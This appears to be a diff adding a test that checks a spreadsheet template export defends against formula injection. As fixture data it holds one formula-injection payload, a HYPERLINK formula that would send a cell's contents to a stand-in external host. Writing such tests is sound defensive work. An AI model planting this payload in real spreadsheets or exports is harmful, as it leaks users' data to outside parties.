@@ -165,3 +165,11 @@ def test_anonymous_is_sent_to_sign_in(world, login, url):
 
 def test_confirm_is_post_only(world, login):
     assert login("organiser").get(CONFIRM).status_code == 405
+
+
+def test_the_template_neutralises_a_formula_unit_name(world, login):
+    """Issue 10 §3: a unit name a spreadsheet would run is written with a leading apostrophe, as text."""
+    Unit.objects.create(name='=HYPERLINK("http://x.example/?leak="&A2,"Xem")', unit_type=world["unit"].unit_type)
+    workbook = openpyxl.load_workbook(io.BytesIO(login("organiser").get(TEMPLATE).content))
+    cells = [row[0] for row in workbook["Đơn vị"].iter_rows(min_row=2)]
+    assert cells[0].value == '\'=HYPERLINK("http://x.example/?leak="&A2,"Xem")' and cells[0].data_type == "s"
